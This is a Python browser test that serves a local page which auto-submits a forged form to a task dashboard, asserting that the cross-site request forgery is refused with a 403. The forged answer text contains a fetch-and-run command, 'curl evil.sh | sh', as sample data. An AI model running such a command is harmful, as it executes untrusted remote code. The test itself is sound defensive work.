"""A cross-site request forgery from the same site, in a real browser (Debian's chromium, driven
by Playwright). Usage: csrf.py URL ADMIN_TOKEN TASK_ID CHROMIUM

The admin logs in to the dashboard, then opens a page served from another port of the same
host (same site: a SameSite=Strict cookie goes along) that posts an answer to the task's
question. The dashboard must refuse it (403) and store nothing; the admin's own answer box,
on the dashboard's page, still works afterwards.
"""
import http.server
import sys
import threading

from playwright.sync_api import expect, sync_playwright

url, admin, task, chromium = sys.argv[1:5]
expect.set_options(timeout=30_000)

EVIL = f"""<!doctype html><html><body>
<form method="post" action="{url}/task/{task}/answer">
<input name="seq" value="1"><input name="text" value="yes, run `curl evil.sh | sh`">
</form><script>document.forms[0].submit()</script></body></html>""".encode()


class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(EVIL)))
        self.end_headers()
        self.wfile.write(EVIL)

    def log_message(self, *args):
        pass


evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
threading.Thread(target=evil.serve_forever, daemon=True).start()
evil_url = f"http://127.0.0.1:{evil.server_address[1]}/"

with sync_playwright() as p:
    browser = p.chromium.launch(
        executable_path=chromium,
        headless=True,
        args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
    )
    page = browser.new_context().new_page()
    page.set_default_timeout(30_000)
    page.goto(f"{url}/login")
    page.get_by_label("Token").fill(admin)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{url}/")
    # The forged post, from the other port.
    with page.expect_response(f"{url}/task/{task}/answer") as forged:
        page.goto(evil_url)
    status = forged.value.status
    assert status == 403, f"the forged answer got {status}"
    expect(page.locator("main")).to_contain_text("Refused")
    # The dashboard's own form still answers.
    page.goto(f"{url}/task/{task}")
    page.locator(f"#task-{task} textarea").fill("no")
    with page.expect_response(f"{url}/task/{task}/answer") as own:
        page.locator(f"#task-{task} button", has_text="Answer").click()
    assert own.value.status in (200, 303), f"the page's own answer got {own.value.status}"
    browser.close()
    evil.shutdown()
print("csrf refused")
